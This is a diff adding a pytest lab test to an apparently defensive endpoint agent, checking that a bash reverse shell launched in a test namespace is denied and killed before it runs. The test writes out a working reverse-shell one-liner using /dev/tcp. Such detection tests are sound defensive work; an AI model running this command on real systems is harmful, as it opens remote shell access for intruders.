@@ -23,10 +23,10 @@ from pathlib import Path
 import pytest
 import yaml
 
-from tests.support.endpoint_behaviour import Events, Netns
+from tests.support.endpoint_behaviour import Events, Listener, Netns
 from tests.support.fanotify import fanotify_marks_on, mount_tmpfs, remove_tmpfs
 from vigil.control import call
-from vigil.lab.services import ManagedProcess, Mosquitto, vigil_command
+from vigil.lab.services import ManagedProcess, Mosquitto, free_port, vigil_command
 
 pytestmark = pytest.mark.lab
 
@@ -202,3 +202,32 @@ def test_injected_shell_in_monitor_mode_runs_and_is_reported(site):
         assert "pwned" in body and "rc=0" in body, body
         ev = site.events.wait(lambda e: e["rule"] == "service-spawns-shell")
         assert ev["action"] == "would-block" and ev["mode"] == "monitor"
+
+
+@pytest.mark.skipif(not shutil.which("apache2") or not shutil.which("nsenter"), reason="apache2/nsenter not installed")
+def test_reverse_shell_from_a_watched_mount_is_denied_before_it_runs(site):
+    """bash sets up `>& /dev/tcp/...` before it execs `bash -i`: the gate sees a shell about to run
+    with a TCP connection as its stdio, denies the exec, kills the process and shuts the
+    connection down (the process connector would only have seen it after the exec)."""
+    port = free_port()
+    listener = Listener(site.ns, port)
+    site.events.clear()
+    try:
+        with protected_apache(site, "block-malicious", "bhrsg") as agent:
+            shell = subprocess.Popen(["nsenter", f"--mount=/proc/{agent.pid}/ns/mnt", "bash", "-c",
+                                      f"bash -i >& /dev/tcp/{site.ns.ns_ip}/{port} 0>&1"],
+                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            try:
+                listener.expect("accepted", 10)
+                listener.expect("closed", 5)
+                assert shell.wait(5) in (-signal.SIGKILL, 128 + signal.SIGKILL)
+            finally:
+                if shell.poll() is None:
+                    shell.kill()
+                    shell.wait()
+            assert not any(line.startswith("data") for line in listener.out), listener.out   # never ran: no prompt
+            ev = site.events.wait(lambda e: e["rule"] == "reverse-shell-exec")
+            assert ev["event"] == "gate" and ev["action"] == "killed" and ev["closed"] >= 1
+            assert ev["path"] == os.path.realpath("/bin/bash")
+    finally:
+        listener.close()
